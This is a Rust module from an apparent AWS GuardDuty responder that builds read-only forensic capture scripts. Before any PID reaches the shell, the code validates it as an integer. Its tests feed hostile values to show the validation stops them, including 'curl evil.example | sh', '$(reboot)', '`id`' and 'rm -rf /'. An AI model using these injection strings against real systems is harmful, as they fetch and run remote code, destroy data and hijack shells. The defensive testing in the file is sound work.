//! Pure: the shell scripts `ec2.capture_volatile` sends with `AWS-RunShellScript`, one per
//! artefact, and the PIDs it reads `/proc/<pid>` of.
//!
//! The finding is the attacker's to shape (a process can name itself anything, and the
//! finding's fields pass through GuardDuty as text). Only PIDs reach the script, and only
//! as integers the responder formats itself: each is parsed into a `u32` in
//! `1..=PID_MAX_LIMIT` before any text is built, so no character of the finding can reach
//! the shell. Everything else in the script is constant.

use crate::finding::{Finding, Process};

/// Linux's highest possible PID (`PID_MAX_LIMIT` on 64-bit: 2^22).
pub const PID_MAX_LIMIT: i64 = 1 << 22;

/// The PIDs the finding names, in order: the process, its lineage (parent first), then the
/// modifying and target processes of the runtime context. Valid PIDs only, each once, at
/// most `max`. Host PIDs (`pid`), not namespace PIDs: the command runs on the host.
pub fn finding_pids(finding: &Finding, max: usize) -> Vec<u32> {
    let mut named: Vec<Option<i64>> = Vec::new();
    let mut add = |p: &Process| {
        named.push(p.pid);
        named.extend(p.lineage.iter().map(|l| l.pid));
    };
    if let Some(p) = finding.process() {
        add(p);
    }
    if let Some(c) = finding.context() {
        for p in [&c.modifying_process, &c.target_process]
            .into_iter()
            .flatten()
        {
            add(p);
        }
    }
    let mut out: Vec<u32> = Vec::new();
    for pid in named.into_iter().flatten().filter_map(valid_pid) {
        if out.len() >= max {
            break;
        }
        if !out.contains(&pid) {
            out.push(pid);
        }
    }
    out
}

/// A PID as the kernel could have issued it, or nothing.
pub fn valid_pid(n: i64) -> Option<u32> {
    (1..=PID_MAX_LIMIT)
        .contains(&n)
        .then(|| u32::try_from(n).ok())
        .flatten()
}

/// What one command collects: one object in the bundle each.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Artefact {
    /// `date`, `uname -a`, uptime.
    System,
    /// The process list.
    Processes,
    /// Network connections with their processes.
    Network,
    /// The loaded kernel modules.
    Modules,
    /// `/proc/<pid>` of one PID the finding names (a validated integer).
    Pid(u32),
}

impl Artefact {
    /// Its name, from the responder's own vocabulary and integers only: the instance's
    /// output never chooses it.
    pub fn name(&self) -> String {
        match self {
            Artefact::System => "system".into(),
            Artefact::Processes => "processes".into(),
            Artefact::Network => "network".into(),
            Artefact::Modules => "modules".into(),
            Artefact::Pid(p) => format!("pid-{p}"),
        }
    }

    /// What the command runs (every command's errors go to stdout with it; each read is
    /// cut by `$T`, `timeout 10`, so one stuck read cannot use the whole time limit).
    fn body(&self) -> String {
        match self {
            Artefact::System => SYSTEM.into(),
            Artefact::Processes => PROCESSES.into(),
            Artefact::Network => NETWORK.into(),
            Artefact::Modules => MODULES.into(),
            Artefact::Pid(p) => format!("  pid={p}\n{PER_PID}"),
        }
    }
}

/// The artefacts for these PIDs: the machine-wide ones first, then one per PID.
pub fn artefacts(pids: &[u32]) -> Vec<Artefact> {
    let mut out = vec![
        Artefact::System,
        Artefact::Processes,
        Artefact::Network,
        Artefact::Modules,
    ];
    out.extend(pids.iter().map(|p| Artefact::Pid(*p)));
    out
}

/// The first line of every command's output: how the rest is encoded.
pub const HEADER: &str = "guardduty-responder-volatile/1";
/// The rest is base64 (one line) of a gzip stream.
pub const GZIP_BASE64: &str = "gzip-base64";
/// gzip or base64 is missing on the instance: the rest is the output itself.
pub const PLAIN: &str = "plain";
/// At most this many bytes of gzip stream: base64 makes them 23,200 characters, under
/// the 24,000 characters of output `GetCommandInvocation` returns, with the header line.
pub const GZIP_BYTES: usize = 17_400;
/// At most this many bytes of output without compression (the fallback).
pub const PLAIN_BYTES: usize = 20_000;

const SYSTEM: &str = r#"  section "date"; date -u +%Y-%m-%dT%H:%M:%SZ
  section "uname"; uname -a
  section "uptime"; $T cat /proc/uptime
"#;

const PROCESSES: &str = r#"  $T ps -eo pid,ppid,uid,user,lstart,etime,stat,args --no-headers || $T ps aux
"#;

const NETWORK: &str = r#"  $T ss -tunape || $T netstat -tunape
"#;

const MODULES: &str = r#"  section "lsmod"; $T lsmod
  section "/proc/modules"; $T cat /proc/modules
"#;

/// Per PID (`$pid` is set from the literal integer): whether it runs, the executable's
/// link and hash, its identity, its command line, then the open files, the environment
/// and the memory maps (the longest, last: a cut loses the least telling part).
const PER_PID: &str = r#"  d="/proc/$pid"
  section "pid $pid"
  if [ ! -d "$d" ]; then echo "no such process (exited)"; return 0; fi
  ls -l "$d/exe"; $T sha256sum "$d/exe"
  $T grep -E '^(Name|State|PPid|Uid|Gid):' "$d/status"
  section "pid $pid cmdline"; $T tr '\0' ' ' < "$d/cmdline"; echo
  section "pid $pid fd"; $T ls -l "$d/fd"
  section "pid $pid environ"; $T tr '\0' '\n' < "$d/environ"
  section "pid $pid maps"; $T cat "$d/maps"
"#;

/// The script of one artefact: constant text around its body, which holds no text but
/// the responder's and, for a PID, the integer it formatted. Its output is the header
/// line, then the artefact gzip-compressed, cut at [`GZIP_BYTES`] and base64-encoded; where
/// gzip or base64 is missing, the header says `plain` and the output follows as is, cut at
/// [`PLAIN_BYTES`].
pub fn script(artefact: &Artefact) -> String {
    format!(
        r#"#!/bin/sh
# guardduty-responder volatile capture: {name} (docs/evidence.md). Read-only.
export LC_ALL=C PATH=/usr/sbin:/usr/bin:/sbin:/bin
T="timeout 10"
command -v timeout >/dev/null 2>&1 || T=""
section() {{ printf '\n===== %s =====\n' "$1"; }}
collect() {{
{body}}}
if command -v gzip >/dev/null 2>&1 && printf x | base64 -w0 >/dev/null 2>&1; then
  printf '%s\n' '{HEADER} {GZIP_BASE64}'
  collect 2>&1 | gzip -c | head -c {GZIP_BYTES} | base64 -w0
else
  printf '%s\n' '{HEADER} {PLAIN}'
  collect 2>&1 | head -c {PLAIN_BYTES}
fi
"#,
        name = artefact.name(),
        body = artefact.body(),
    )
}

#[cfg(test)]
#[path = "script_run_tests.rs"]
mod run_tests;

#[cfg(test)]
mod tests {
    use super::*;

    fn finding(process: serde_json::Value) -> Finding {
        let doc = serde_json::json!({
            "id": "f", "type": "Execution:Runtime/NewBinaryExecuted", "accountId": "123456789012",
            "region": "eu-west-1", "resource": {"resourceType": "Instance"},
            "service": {"runtimeDetails": {"process": process}},
        });
        serde_json::from_value(doc).expect("a finding")
    }

    /// Every script of these PIDs, joined: what reaches the shell.
    fn all_scripts(pids: &[u32]) -> String {
        artefacts(pids).iter().map(script).collect()
    }

    #[test]
    fn pids_come_from_the_process_and_its_lineage_once_each() {
        let f = finding(serde_json::json!({
            "pid": 51877, "name": "x",
            "lineage": [{"pid": 51866}, {"pid": 51877}, {"pid": 1}],
        }));
        assert_eq!(finding_pids(&f, 16), vec![51877, 51866, 1]);
        assert_eq!(finding_pids(&f, 2), vec![51877, 51866]);
        let names: Vec<String> = artefacts(&finding_pids(&f, 16))
            .iter()
            .map(Artefact::name)
            .collect();
        assert_eq!(
            names,
            [
                "system",
                "processes",
                "network",
                "modules",
                "pid-51877",
                "pid-51866",
                "pid-1"
            ]
        );
        let s = script(&Artefact::Pid(51877));
        assert!(s.contains("  pid=51877\n"), "{s}");
        assert!(s.contains("sha256sum") && s.contains("environ"), "{s}");
    }

    /// The attacker names the process and, through a lenient parser, could offer any text
    /// as a PID: none of it reaches the scripts, which are the constant text and the
    /// integers the responder formatted.
    #[test]
    fn a_hostile_pid_or_name_cannot_reach_the_shell() {
        let hostile = [
            serde_json::json!("1; curl evil.example | sh"),
            serde_json::json!("$(reboot)"),
            serde_json::json!("`id`"),
            serde_json::json!("12\n rm -rf /"),
            serde_json::json!(-1),
            serde_json::json!(0),
            serde_json::json!(4194305),
            serde_json::json!(1e300),
            serde_json::json!(9007199254740993_u64),
            serde_json::json!(18446744073709551615_u64),
        ];
        for pid in hostile {
            let f = finding(serde_json::json!({
                "pid": pid.clone(),
                "name": "$(reboot); `id` ' \" \n",
                "executablePath": "/tmp/x; reboot",
                "lineage": [{"pid": pid.clone(), "name": "$(id)"}, {"pid": 4242}],
            }));
            let pids = finding_pids(&f, 16);
            assert_eq!(pids, vec![4242], "{pid}");
            let s = all_scripts(&pids);
            assert_eq!(s, all_scripts(&[4242]), "{pid}");
            for bad in ["reboot", "curl", "rm -rf", "`id`", "$(id)", "evil"] {
                assert!(!s.contains(bad), "{pid}: {bad} in\n{s}");
            }
        }
        // No PID at all: the machine-wide artefacts only.
        let none = all_scripts(&[]);
        assert!(!none.contains("pid="), "{none}");
        assert!(none.contains("lsmod") && none.contains("ss -tunape"));
        assert!(none.contains("/proc/modules") && none.contains("ps -eo"));
    }

    #[test]
    fn a_valid_pid_is_an_integer_the_kernel_could_issue() {
        assert_eq!(valid_pid(1), Some(1));
        assert_eq!(valid_pid(PID_MAX_LIMIT), Some(4_194_304));
        for bad in [0, -5, PID_MAX_LIMIT + 1, i64::MAX, i64::MIN] {
            assert_eq!(valid_pid(bad), None, "{bad}");
        }
    }
}
